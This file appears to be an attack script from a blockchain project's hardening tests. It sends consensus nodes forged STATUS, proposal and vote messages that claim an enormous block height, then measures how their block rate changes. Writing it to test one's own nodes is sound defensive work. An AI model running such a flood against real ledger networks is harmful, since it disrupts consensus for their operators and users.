// Lying heights (hardening issue, class 3): STATUS frames claiming a huge height, and proposals and
// votes from a huge height (well-formed, signed by nobody), sent to every victim every `everyMs` for
// `seconds`. An unhardened node stored the claimed height forever and started every next height at
// once (111x the block rate, persisting after the liar left). The script also accepts the streams
// victims open to it and counts their SYNC_REQUESTs (never answered): a claim may cost the victims a
// few sync requests, nothing more. It also measures the block rate itself, from the COMMITTED and STATUS
// heights the victims send it: `observeSeconds` before the lies and after them (0: no measurement).
//
// Args: { addresses: string[], chainId, seconds?: 10, everyMs?: 200, height?: 2^40, observeSeconds?: 0 }
// Reports: { t, sent, bytes, syncRequests } every second; with observeSeconds, { phase, blocksPerSecond }
// for "before", "during" and "after"; then { done: true, sent, bytes, syncRequests, blocksPerSecond }.
import { generateIdentity } from '../../../src/crypto/identity.ts';
import {
  CONSENSUS_MSG_TYPE,
  decodeConsensusMessage,
  encodeConsensusMessage,
} from '../../../src/wire/consensus-msg.ts';
import { attackArgs, createAttackerHost, report, stopAll } from './attacker-host.ts';
import { junkProposal, junkVote } from './ledger-junk-msgs.ts';
import { type LedgerLink, listenLedger, openLedgerLink } from './ledger-link.ts';

interface Args {
  addresses: string[];
  chainId: string;
  seconds?: number;
  everyMs?: number;
  height?: number;
  observeSeconds?: number;
}

const args = attackArgs<Args>();
const height = args.height ?? 2 ** 40;
let syncRequests = 0;
/** The highest real height any victim has told us of (COMMITTED blocks and STATUS; our lies aside). */
let tip = 0;
const host = await createAttackerHost();
await listenLedger(host, (_from, payload) => {
  if (payload[0] === CONSENSUS_MSG_TYPE.SYNC_REQUEST) syncRequests++;
  if (payload[0] !== CONSENSUS_MSG_TYPE.COMMITTED && payload[0] !== CONSENSUS_MSG_TYPE.STATUS) return;
  const m = decodeConsensusMessage(payload);
  if (m.kind !== 'ok') return;
  const h =
    m.value.kind === 'COMMITTED'
      ? m.value.block.header.height
      : m.value.kind === 'STATUS'
        ? m.value.height
        : 0;
  if (h < height) tip = Math.max(tip, h);
});

/** Blocks per second the victims committed over `ms`, as they told us. */
async function blockRate(ms: number): Promise<number> {
  const h0 = tip;
  const t0 = Date.now();
  await new Promise((r) => setTimeout(r, ms));
  return (tip - h0) / ((Date.now() - t0) / 1000);
}
const links: LedgerLink[] = [];
for (const a of args.addresses) links.push(await openLedgerLink(host, a));

const fake = generateIdentity().publicKey;
const lies = [
  encodeConsensusMessage({ kind: 'STATUS', height }),
  encodeConsensusMessage({
    kind: 'PROPOSAL',
    proposal: junkProposal(args.chainId, height + 1, 0, fake, 256),
  }),
  encodeConsensusMessage({ kind: 'VOTE', vote: junkVote(args.chainId, height + 1, 0, fake) }),
];

const observe = (args.observeSeconds ?? 0) * 1000;
if (observe > 0) {
  // Heights arrive once the victims' streams to us are open.
  const until = Date.now() + 60_000;
  while (tip === 0 && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
  report({ phase: 'before', blocksPerSecond: await blockRate(observe) });
}
const tipAtStart = tip;
const started = Date.now();
const end = started + (args.seconds ?? 10) * 1000;
let sent = 0;
let lastReport = started;
const bytes = () => links.reduce((n, l) => n + l.sent(), 0);
while (Date.now() < end) {
  for (const l of links) {
    for (const m of lies) {
      await l.send(m);
      sent++;
    }
  }
  if (Date.now() - lastReport >= 1000) {
    lastReport = Date.now();
    report({ t: (lastReport - started) / 1000, sent, bytes: bytes(), syncRequests });
  }
  await new Promise((r) => setTimeout(r, args.everyMs ?? 200));
}
const during = (tip - tipAtStart) / ((Date.now() - started) / 1000);
if (observe > 0) {
  report({ phase: 'during', blocksPerSecond: during });
  report({ phase: 'after', blocksPerSecond: await blockRate(observe) });
}
report({ done: true, sent, bytes: bytes(), syncRequests, blocksPerSecond: during });
await stopAll([host]);
